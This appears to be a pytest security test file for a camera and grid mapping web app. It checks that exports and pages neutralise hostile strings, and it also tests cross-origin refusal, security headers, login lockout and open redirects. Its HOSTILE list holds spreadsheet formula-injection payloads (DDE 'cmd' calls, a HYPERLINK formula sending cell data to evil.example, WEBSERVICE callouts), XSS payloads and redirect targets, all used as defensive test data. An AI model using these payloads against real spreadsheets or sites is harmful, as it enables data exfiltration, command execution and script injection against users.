"""Hostile strings in every text field: no export cell a spreadsheet would evaluate, no page that runs them,
and the requests an attacker sends from elsewhere (cross-origin changes, open redirects, stray 500s)."""

from __future__ import annotations

import csv
import io
import shutil
import zipfile

import openpyxl
import pytest
from fastapi.testclient import TestClient

from api import access
from api.app import create_app
from api.exports import ExportSpec, Source, make
from api.exports.cells import TRIGGERS
from api.settings import Settings
from layers import store
from tests.api.test_browser import browser, open_page, serving  # noqa: F401 (browser is a fixture)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", " =1+1", "　=1+1", "＝1+1", "＋1", "－1", "＠A1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "-2+3+cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", "@cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://e/\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")", "<script>alert(1)</script>", '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>", "javascript:alert(4)", "{{7*7}}", "${7*7}", "%(name)s", "</textarea><b>x</b>",
    "\u202e名称", "名称\u200b", "a,b;c\"d", "line1\nline2", "=", "-", "+", "@",
]
assert len(HOSTILE) == 36


@pytest.fixture(scope="module")
def hostile(analysed_path, tmp_path_factory):
    """The analysed demo with a hostile string in every name (and address) of every base layer."""
    path = tmp_path_factory.mktemp("hostile") / "demo.gpkg"
    shutil.copyfile(analysed_path, path)
    ws = store.open_workspace(path)
    for layer in ("communities", "grids", "buildings", "roads", "targets", "cameras", "sites"):
        frame = ws.read(layer)
        for col in ("name", "address"):
            if col in frame:
                frame[col] = [HOSTILE[i % len(HOSTILE)] for i in range(len(frame))]
        ws.write(layer, frame)
    return path


def _bad_text(value: object) -> bool:
    """Whether a spreadsheet would read this cell text as the start of a formula."""
    return isinstance(value, str) and bool(value) and (value[0] in TRIGGERS or value.lstrip(" \u3000")[:1] in TRIGGERS)


def _check_csv(data: bytes) -> int:
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows
    bad = [cell for row in rows for cell in row if _bad_text(cell)]
    assert bad == []
    return sum(len(r) for r in rows)


def _check_xlsx(data: bytes) -> int:
    book = openpyxl.load_workbook(io.BytesIO(data))
    n = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                assert not _bad_text(cell.value), (sheet.title, cell.coordinate, cell.value)
                n += 1
    with zipfile.ZipFile(io.BytesIO(data)) as z:  # no formula element anywhere in the package
        assert not any(b"<f>" in z.read(name) or b"<f " in z.read(name) for name in z.namelist()
                       if name.endswith(".xml"))
    return n


def test_no_export_cell_evaluates(hostile, tmp_path):
    ws = store.open_workspace(hostile)
    source = Source.local(ws)
    specs = [ExportSpec(what="tables", format="xlsx"), ExportSpec(what="tables", format="csv", table="grids"),
             ExportSpec(what="tables", format="csv", table="communities")]
    specs += [ExportSpec(what="layer", layer=layer, format=fmt) for layer in ws.versions() for fmt in ("csv", "xlsx")]
    specs.append(ExportSpec(what="layer", layer="households", format="xlsx", detail=True, reason="核查"))
    cells = 0
    for i, spec in enumerate(specs):
        out = make(source, spec, tmp_path / f"{i}.{spec.format}")
        cells += _check_csv(out.read_bytes()) if spec.format == "csv" else _check_xlsx(out.read_bytes())
    assert cells > 100_000
    # the text itself is still there to read, behind its apostrophe
    table = make(source, ExportSpec(what="layer", layer="cameras", format="csv"), tmp_path / "cams.csv")
    text = table.read_text(encoding="utf-8-sig")
    assert "'=1+1" in text and "'@SUM(A1:A2)" in text and "<script>alert(1)</script>" in text


def test_numbers_stay_numbers(hostile, tmp_path):
    source = Source.local(store.open_workspace(hostile))
    out = make(source, ExportSpec(what="layer", layer="cameras", format="xlsx"), tmp_path / "c.xlsx")
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    heading = sheet.cell(2, header.index("朝向角(度)") + 1 if "朝向角(度)" in header else 4).value
    assert isinstance(heading, int | float)


def test_api_exports_are_neutralised_too(hostile):
    app = create_app(Settings(workspace=hostile, auth=False))
    http = TestClient(app)
    for url in ("/api/export/targets?format=csv", "/api/reports/tables?format=csv"):
        r = http.get(url)
        assert r.status_code == 200 and r.headers["cache-control"] == "no-store"
        _check_csv(r.content)
    r = http.get("/api/export/grids?format=xlsx")
    assert r.status_code == 200
    _check_xlsx(r.content)


@pytest.mark.browser
def test_pages_run_no_hostile_string(hostile, browser):  # noqa: F811
    with serving(hostile) as url:
        for path in ("/", "/coverage", "/overview", "/placement"):
            page = open_page(browser, f"{url}{path}")
            dialogs: list[str] = []
            page.on("dialog", lambda d, seen=dialogs: (seen.append(d.message), d.dismiss()))
            # open every card: the popups and tooltips are where names are written
            page.evaluate("""() => {
                const map = Object.values(window).find(v => v && v._container && v.eachLayer);
                map.eachLayer(l => { if (l.getPopup && l.getPopup()) { l.openPopup(); } }); }""")
            page.wait_for_timeout(300)
            assert dialogs == [] and page.evaluate("document.querySelectorAll('img[src=x], svg[onload]').length") == 0
            assert [e for e in page.errors if "Content Security Policy" in e] == [], page.errors
            assert page.errors == [], (path, page.errors)
            page.close()


# ---- requests from elsewhere ----------------------------------------------------------------------
@pytest.fixture(scope="module")
def site(analysed_path, tmp_path_factory):
    path = tmp_path_factory.mktemp("site") / "demo.gpkg"
    shutil.copyfile(analysed_path, path)
    ws = store.open_workspace(path)
    access.add_user(ws, "police", "police", access.Area(), "correct horse battery")
    return create_app(Settings(workspace=path)), ws


def _cookie_client(app):
    http = TestClient(app)
    r = http.post("/api/auth/login", json={"username": "police", "password": "correct horse battery"})
    assert r.status_code == 200 and "pingan_session" in http.cookies
    return http


def test_cookie_changes_from_another_origin_are_refused(site):
    app, ws = site
    http = _cookie_client(app)
    camera = {"type": "Feature", "geometry": {"type": "Point", "coordinates": [120.52, 36.87]},
              "properties": {"id": "EVIL-1", "name": "x", "kind": "bullet", "status": "active"}}
    for headers in ({"Origin": "http://evil.example"}, {"Referer": "http://evil.example/page"}, {}):
        r = http.post("/api/layers/cameras", json=camera, headers=headers)
        assert r.status_code == 403 and r.json()["type"] == "/problems/cross-origin-refused", (headers, r.text)
        r = http.post("/api/auth/logout", headers=headers)
        assert r.status_code == 403
    assert "EVIL-1" not in set(ws.read("cameras")["id"])
    # from the site itself (what its pages send), the same cookie works
    r = http.post("/api/layers/cameras", json=camera, headers={"Origin": "http://testserver"})
    assert r.status_code == 201, r.text
    assert http.post("/api/auth/logout", headers={"Origin": "http://testserver"}).status_code == 200


def test_security_headers_on_every_answer(site):
    app, _ws = site
    http = _cookie_client(app)
    for url in ("/", "/login", "/api/layers", "/api/export/grids?format=csv", "/static/pingan.css", "/api/nothing"):
        r = http.get(url)
        h = r.headers
        assert h["x-content-type-options"] == "nosniff" and h["x-frame-options"] == "DENY", url
        assert h["referrer-policy"] == "same-origin" and "frame-ancestors 'none'" in h["content-security-policy"]
        assert len(h["x-request-id"]) == 16
        if url.startswith("/api/"):
            assert h["cache-control"] == "no-store", url
    page = http.get("/")
    csp = page.headers["content-security-policy"]
    assert "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0] and "'unsafe-eval'" not in csp


def test_logins_tell_nothing_and_lock_out_no_one(site):
    app, ws = site
    access.add_user(ws, "gone", "viewer", access.Area(), "correct horse battery")
    access.set_disabled(ws, "gone")
    attacker = TestClient(app, client=("203.0.113.9", 5000))
    answers = {attacker.post("/api/auth/login", json={"username": name, "password": "wrong password!"}).json()[
        "detail"] for name in ("police", "nobody", "gone")}
    assert answers == {access.LOGIN_FAILED}  # unknown, disabled and wrong: one answer
    assert attacker.post("/api/auth/login", json={"username": "gone", "password": "correct horse battery"}).json()[
        "detail"] == access.LOGIN_FAILED
    for _ in range(access.LOCK_AFTER):
        attacker.post("/api/auth/login", json={"username": "police", "password": "wrong password!"})
    held = attacker.post("/api/auth/login", json={"username": "police", "password": "correct horse battery"})
    assert held.status_code == 401 and "too many" in held.json()["detail"]
    for _ in range(access.LOCK_AFTER + 1):  # an unknown name is held back the same way
        last = attacker.post("/api/auth/login", json={"username": "nobody", "password": "wrong password!"})
    assert "too many" in last.json()["detail"]
    # the real user, from their own machine, is not locked out by the attacker's guesses
    user = TestClient(app, client=("198.51.100.7", 5000))
    assert user.post("/api/auth/login", json={"username": "police", "password": "correct horse battery"}
                     ).status_code == 200


def test_unexpected_errors_answer_a_generic_500_with_a_request_id(site, monkeypatch):
    app, _ws = site
    from api.routers import layers as layers_router

    def broken(*args, **kwargs):
        raise RuntimeError("internal detail that must not leak")

    monkeypatch.setattr(layers_router, "_within", broken)
    http = TestClient(app, raise_server_exceptions=False)
    token = http.post("/api/auth/login", json={"username": "police", "password": "correct horse battery"}).json()
    r = http.get("/api/layers/grids", params={"grid": "1"}, headers={"Authorization": f"Bearer {token['token']}"})
    assert r.status_code == 500 and r.json()["type"] == "/problems/internal-error"
    assert r.json()["request_id"] == r.headers["x-request-id"] and "internal detail" not in r.text


def test_null_geometries_and_invalid_results_are_no_500(site):
    app, _ws = site
    http = TestClient(app)
    token = http.post("/api/auth/login", json={"username": "police", "password": "correct horse battery"}).json()
    auth = {"Authorization": f"Bearer {token['token']}"}
    r = http.put("/api/layers/cameras/C0001", json={"type": "Feature", "geometry": None, "properties": {}},
                 headers=auth | {"If-Match": '"x"'})
    assert r.status_code == 422 and "geometry" in r.json()["detail"]
    r = http.get("/api/export/blind_spots", params={"format": "kml"}, headers=auth)
    assert r.status_code == 200 and b"<Placemark" in r.content


@pytest.mark.browser
@pytest.mark.parametrize("target", ["/%5Cevil.example/x", "//evil.example/x", "https://evil.example/",
                                    "/\\evil.example", "javascript:alert(1)"])
def test_login_follows_only_paths_of_this_site(analysed_path, tmp_path, browser, target):  # noqa: F811
    path = tmp_path / "demo.gpkg"
    shutil.copyfile(analysed_path, path)
    access.add_user(store.open_workspace(path), "worker", "grid_worker", access.Area(), "correct horse battery")
    with serving(path, auth=True) as url:
        page = browser.new_page()
        page.goto(f"{url}/login?next={target}", wait_until="load")
        page.fill("#username", "worker")
        page.fill("#password", "correct horse battery")
        with page.expect_navigation():
            page.click("button[type=submit]")
        assert page.url.startswith(url + "/"), page.url
        page.close()
